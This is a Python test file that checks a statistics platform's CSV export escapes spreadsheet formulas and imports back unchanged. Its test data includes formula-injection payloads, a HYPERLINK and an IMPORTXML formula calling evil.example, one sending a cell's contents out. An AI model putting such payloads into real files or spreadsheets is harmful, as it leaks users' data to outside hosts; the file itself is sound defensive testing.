"""Files the platform writes are safe to open in a spreadsheet, and still import back exactly.

Anyone may download ``GET /v1/observations?format=csv``; an editor chooses the notes and
source titles in it. A text a spreadsheet would run as a formula is written with one more
leading apostrophe (``shared.tabular``), and the import takes one off again.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from shared.auth import Role
from shared.tabular import Column, TableWriter, escape_text, unescape_text
from tests.factories import Api, observation

CITY = "ATVIE"
PERIOD = "2031"
#: Notes an editor may write, and the cell a spreadsheet must see for each.
NOTES = {
    '=HYPERLINK("https://evil.example/?"&A1,"Click")': (
        '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    ),
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1": "'\t=1",
    "'=already escaped by its author": "''=already escaped by its author",
    "'quoted, not a formula": "'quoted, not a formula",
    "Census note, 2021": "Census note, 2021",
}
SOURCE = {
    "title": '=IMPORTXML("https://evil.example","//a")',
    "publisher": "@Stadt Wien",
    "url": "https://www.wien.gv.at/statistik/",
    "kind": "register",
}


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def write_formulas(api: Api, notes: Iterable[str] = NOTES) -> None:
    notes = list(notes)
    districts = [f"district:{n:02d}" for n in range(1, len(notes) + 1)]
    body: dict[str, Any] = {
        "observations": [
            observation(
                city=CITY,
                indicator="net_migration_rate",
                period=PERIOD,
                scope=scope,
                value=-5,
                note=note,
                source=SOURCE,
            )
            for scope, note in zip(districts, notes, strict=True)
        ]
    }
    response = await api.post("/v1/observations", json=body, role=Role.admin)
    assert response.status_code == 200, response.text


async def test_the_public_export_escapes_formulas_in_text_and_leaves_numbers(api: Api) -> None:
    await write_formulas(api)

    response = await api.get(
        "/v1/observations", params={"format": "csv", "city": CITY, "period_from": PERIOD}
    )

    assert response.status_code == 200, response.text
    rows = read_csv(response.text)
    assert sorted(row["note"] for row in rows) == sorted(NOTES.values())
    for row in rows:
        assert row["value"] == "-5", row
        assert row["source_title"] == "'" + SOURCE["title"], row
        assert row["source_publisher"] == "'@Stadt Wien", row
        assert row["source_url"] == SOURCE["url"], row
        assert not row["note"].startswith(("=", "+", "-", "@", "\t", "\r")), row


async def test_an_escaped_export_imports_back_unchanged(api: Api) -> None:
    # The import trims the whitespace around a cell (a spreadsheet's stray spaces), so a note
    # that starts with a tab does not come back whole whatever the escaping: left out here.
    notes = [note for note in NOTES if note == note.strip()]
    await write_formulas(api, notes)
    editor = {"role": Role.editor, "cities": (CITY,)}
    params = {"format": "csv", "city": CITY, "period_from": PERIOD}
    exported = await api.get("/v1/observations", params=params, **editor)

    imported = await api.post(
        "/v1/imports", content=exported.content, headers={"Content-Type": "text/csv"}, **editor
    )

    assert imported.status_code == 200, imported.text
    result = imported.json()
    assert (result["rows"], result["unchanged"], result["sources_created"]) == (
        len(notes),
        len(notes),
        0,
    ), result
    listed = await api.get(
        "/v1/observations", params={"city": CITY, "period_from": PERIOD, "limit": 100}
    )
    assert sorted(item["note"] for item in listed.json()["items"]) == sorted(notes)


@given(st.text())
def test_unescaping_undoes_escaping_for_every_text(text: str) -> None:
    escaped = escape_text(text)
    assert unescape_text(escaped) == text
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_writer_escapes_text_columns_only() -> None:
    table = TableWriter([Column("name"), Column("value", numeric=True)])

    written = table.rows_csv([["-5", -5], ["=1+1", 2.5], [None, None], ["plain", 1e20]])

    assert written.decode() == "'-5,-5\r\n'=1+1,2.5\r\n,\r\nplain,1e+20\r\n"
